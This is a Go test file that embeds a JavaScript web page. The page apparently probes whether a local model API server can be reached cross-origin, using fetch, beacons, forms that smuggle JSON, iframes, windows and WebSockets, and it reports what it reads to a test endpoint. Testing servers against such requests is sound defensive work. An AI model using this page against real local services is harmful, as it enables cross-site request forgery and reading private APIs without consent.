//go:build clients && linux

package main

// attackPage is a web page that tries whatever a page can to have a request sent
// to each of the targets, and tells the test what it could read of the answers.
// Each request names itself in its query.
const attackPage = `<!doctype html><meta charset="utf-8"><title>a page</title><body><script>
"use strict"
const home = "HOME"
const question = '{"model":"m","messages":[{"role":"user","content":"hello"}]}'
const element = (tag, attrs) => {
	const e = Object.assign(document.createElement(tag), attrs)
	document.body.append(e)
	return e
}
const loads = (tag, attrs) => new Promise(done => element(tag, {...attrs, onload: done, onerror: done}))
const text = async (url, options) => {
	const answer = await fetch(url, options)
	return answer.type === "opaque" ? "" : answer.status + " " + await answer.text()
}
const post = (type, more) => ({method: "POST", headers: {"Content-Type": type}, body: question, ...more})
const pause = ms => new Promise(done => setTimeout(done, ms))
// A form that is sent as text/plain makes JSON of a name, "=" and a value.
const form = (action, target) => {
	const f = element("form", {method: "post", enctype: "text/plain", action, target})
	f.append(Object.assign(document.createElement("input"), {name: question.slice(0, -1) + ',"x":"', value: '"}'}))
	return f
}
// Until a window has left this origin, its location can be read.
const gone = async w => {
	for (;;) {
		try { if (w.closed || w.location.href !== "about:blank") return w.document.body.textContent } catch { return "" }
		await pause(20)
	}
}
let frameCount = 0 // names are told apart by it
const inFrame = async go => {
	const frame = element("iframe", {name: "f" + frameCount++})
	await new Promise(done => { frame.onload = done; go(frame) })
	try { return frame.contentDocument.body.textContent } catch { return "" }
}
const tries = {
	"fetch text/plain": url => text(url("/v1/chat/completions"), post("text/plain")),
	"fetch no-cors": url => text(url("/v1/chat/completions"), post("text/plain", {mode: "no-cors"})),
	"fetch json": url => text(url("/v1/chat/completions"), post("application/json")),
	"fetch with key": url => text(url("/v1/models"), {headers: {Authorization: "Bearer x"}}),
	"fetch get": url => text(url("/v1/models")),
	"fetch no-cors get": url => text(url("/v1/models"), {mode: "no-cors"}),
	"fetch referrer": url => text(url("/v1/chat/completions"), post("text/plain", {mode: "no-cors", referrerPolicy: "no-referrer"})),
	"fetch put": url => text(url("/v1/models"), {method: "PUT", body: question}),
	"fetch health": url => text(url("/healthz")),
	"fetch status": url => text(url("/")),
	"fetch token api": url => text(url("/api/2.0/token/list")),
	"beacon": url => void navigator.sendBeacon(url("/v1/chat/completions"), new Blob([question], {type: "text/plain"})),
	"img": url => loads("img", {src: url("/v1/models")}),
	"script": url => loads("script", {src: url("/v1/models")}),
	"style": url => loads("link", {rel: "stylesheet", href: url("/v1/models")}),
	"events": url => new Promise(done => {
		const events = new EventSource(url("/v1/models"))
		events.onerror = () => { events.close(); done() }
	}),
	"websocket": url => new Promise(done => {
		const socket = new WebSocket(url("/v1/responses").replace("http", "ws"))
		socket.onopen = () => done("open")
		socket.onerror = () => done()
	}),
	"iframe": url => inFrame(frame => { frame.src = url("/v1/models") }),
	"form": url => inFrame(frame => form(url("/v1/chat/completions"), frame.name).submit()),
	"form of no origin": url => new Promise(done => {
		const f = form(url("/v1/chat/completions"), "_self")
		f.remove()
		let times = 0
		element("iframe", {sandbox: "allow-forms allow-scripts", srcdoc: f.outerHTML + "<script>onload = () => document.forms[0].submit()<\/script>",
			onload: () => { if (++times === 2) done() }})
	}),
	"window": url => gone(open(url("/v1/models"))),
	"form in a window": url => {
		const name = "w" + frameCount++, w = open("about:blank", name)
		form(url("/v1/chat/completions"), name).submit()
		return gone(w)
	},
}
;(async () => {
	const targets = await (await fetch(home + "/loaded")).json()
	const report = {}
	for (const target of targets) for (const [name, run] of Object.entries(tries)) {
		const url = path => target + path + "?try=" + encodeURIComponent(name)
		let read
		try { read = await Promise.race([run(url), pause(5000).then(() => "timeout")]) } catch {}
		report[target + " " + name] = typeof read === "string" ? read : ""
	}
	await fetch(home + "/report", {method: "POST", body: JSON.stringify(report)})
})()
</script>`

// simpleTries are those that need nobody's leave: without a guard they do what
// they are for. The others a browser asks about before, or they aren't served.
var simpleTries = []string{
	"fetch text/plain", "fetch no-cors", "fetch get", "fetch no-cors get", "fetch referrer", "beacon", "img", "script", "style",
	"events", "iframe", "form", "form of no origin", "window", "form in a window",
}
